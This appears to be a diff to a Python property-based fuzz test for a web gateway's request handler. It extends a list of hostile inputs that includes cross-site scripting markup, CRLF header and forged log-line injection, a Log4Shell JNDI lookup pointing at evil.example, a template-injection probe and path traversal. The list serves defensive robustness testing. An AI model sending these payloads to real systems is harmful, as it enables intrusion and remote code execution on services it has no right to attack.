@@ -15,6 +15,7 @@ from gate.routes.dispatch import handler
 from testing.environment import CONTEXT, EVENTS
 from testing.harness import Answer, Harness
 from tests.fuzz.corpus import TARGETS
+from tests.fuzz.studio_names import SEGMENTS
 
 LogLines = Callable[[], list[dict[str, Any]]]
 CountCase = Callable[[], None]
@@ -22,27 +23,31 @@ CountCase = Callable[[], None]
 same_harness = settings(suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
 
 MARKUP = "<zq onclick='1'>\""
-HOSTILE = st.sampled_from(
-    [
-        MARKUP,
-        f"alice-notebook{MARKUP}",
-        "alice-notebook",
-        "bob-notebook",
-        "..",
-        "%00",
-        "\r\nX-Evil: 1",
-        '{"level":"ERROR","message":"forged"}',
-        "\n" + '{"level":"ERROR","message":"forged"}',
-        "${jndi:ldap://evil.example}",
-        "{{7*7}}",
-        "a" * 9000,
-        "0" * 70,
-        "210987654321~eu-west-1~x",
-        "\u202e",
-        "\ud83d\ude00",
-        "*",
-    ]
-) | st.sampled_from(TARGETS)
+HOSTILE = (
+    st.sampled_from(
+        [
+            MARKUP,
+            f"alice-notebook{MARKUP}",
+            "alice-notebook",
+            "bob-notebook",
+            "..",
+            "%00",
+            "\r\nX-Evil: 1",
+            '{"level":"ERROR","message":"forged"}',
+            "\n" + '{"level":"ERROR","message":"forged"}',
+            "${jndi:ldap://evil.example}",
+            "{{7*7}}",
+            "a" * 9000,
+            "0" * 70,
+            "210987654321~eu-west-1~x",
+            "\u202e",
+            "\ud83d\ude00",
+            "*",
+        ]
+    )
+    | st.sampled_from(TARGETS)
+    | SEGMENTS
+)
 TEXT = HOSTILE | st.text(max_size=60)
 QUERY_NAMES = st.sampled_from(
     ["next", "view", "state", "code", "error", "ticket", "x", "notebook", "iss", "session_state"]
